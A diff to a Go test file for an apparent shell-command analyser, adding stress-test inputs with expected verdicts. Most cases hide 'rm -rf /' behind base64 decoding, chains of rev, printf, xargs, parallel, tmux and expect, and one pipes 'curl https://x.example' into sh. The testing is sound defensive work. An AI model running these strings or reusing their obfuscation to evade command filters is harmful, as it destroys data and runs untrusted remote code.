@@ -1,6 +1,7 @@
 package shell
 
 import (
+	"encoding/base64"
 	"strconv"
 	"strings"
 	"syscall"
@@ -37,7 +38,25 @@ func pathologicalLines() []pathological {
 	}
 	wrap.WriteString("rm -rf /")
 	words := "rm -rf /" + strings.Repeat(" a", 100000)
+	// Computed output (decode.go): a stage prints at most maxStageBytes,
+	// a line maxDecodeBytes in all, maxStages stages in a row.
+	b64 := base64.StdEncoding.EncodeToString([]byte("rm -rf /\n" + strings.Repeat("#", 40<<10) + "\n"))
+	wide := strings.Repeat("printf '"+strings.Repeat("%4000s", 16)+"' x | sh; ", 20)
 	return []pathological{
+		{"decode-40KB-16-stages", "echo " + b64 + " | base64 -d" + strings.Repeat(" | rev", 14) + " | sh", "rm"},
+		{"decode-1000-stages", "echo 'rm -rf /'" + strings.Repeat(" | rev", 1000) + " | sh", ""},
+		{"decode-over-budget", wide, "problem"},
+		{"printf-50000-args", "printf 'rm -rf %s\\n' " + strings.Repeat("/ ", 50000) + "| sh", ""},
+		{"printf-width", "printf '%0999999999d' 0 | sh", ""},
+		{"echo-subst-1000-deep", "rm -rf " + strings.Repeat("$(echo ", 1000) + "/" + strings.Repeat(")", 1000), ""},
+		{"xargs-50000-lines", "printf '%s\\n' " + strings.Repeat("/ ", 50000) + "| xargs -I{} rm -rf {}", "rm"},
+		{"parallel-cross-3x1000", "parallel rm -rf {1}{2}{3} ::: " + strings.Repeat("a ", 1000) + "::: " + strings.Repeat("b ", 1000) + "::: /", "rm"},
+		{"tmux-5000-commands", "tmux " + strings.Repeat("new -d 'rm -rf /' \\; ", 5000), "rm"},
+		{"send-keys-50000", "tmux send-keys " + strings.Repeat("a ", 50000) + "Enter", ""},
+		{"expect-10000-braces", "expect -c '" + strings.Repeat("{", 10000) + "spawn rm -rf /" + strings.Repeat("}", 10000) + "'", "problem"},
+		{"expect-8000-commands", "expect -c '" + strings.Repeat("spawn rm -rf /;", 8000) + "'", "rm"},
+		{"tr-10000-sets", "echo x | tr " + strings.Repeat("a-z", 10000) + " " + strings.Repeat("A-Z", 10000) + " | sh", ""},
+		{"curl-10000-stages", "curl https://x.example" + strings.Repeat(" | cat", 10000) + " | sh", ""},
 		{"1MB-one-word", "rm -rf /" + " " + strings.Repeat("a", mb-len("rm -rf / ")), "rm"},
 		{"1MB-statements", strings.Repeat("a;", mb/2-5) + "rm -rf /", "problem"},
 		{"1MB-pipes", strings.Repeat("a|", mb/2-5) + "rm -rf /", "problem"},
